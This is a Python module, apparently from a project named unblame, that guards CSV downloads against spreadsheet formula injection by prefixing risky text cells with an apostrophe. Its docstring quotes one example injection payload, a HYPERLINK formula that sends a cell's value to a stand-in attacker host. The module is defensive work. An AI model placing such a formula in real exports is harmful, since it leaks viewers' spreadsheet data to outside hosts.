"""Cells of a CSV download that a spreadsheet shows as text, never runs as a formula.

A title like `=HYPERLINK("http://evil.example/"&A2,"open")` comes from alert
sources, editors and imports alike; opened in a spreadsheet it would be a
live formula in the file a viewer downloads. As OWASP's "CSV Injection" page
advises, a text cell that starts with one of the characters below gets a
leading apostrophe, which spreadsheets read as "this is text" and hide.
Every CSV writer of unblame passes its rows through `safe_row`.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

# = + - @ start a formula; a tab or carriage return before them is skipped by
# some spreadsheets, which then read the formula after it.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value, with an apostrophe before text that a spreadsheet would run as a formula.

    Numbers, dates and None are left alone: a negative number is a number, not
    a formula, and the csv module writes them as they are.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    """Every cell of a row through `safe_cell`."""
    return [safe_cell(value) for value in row]
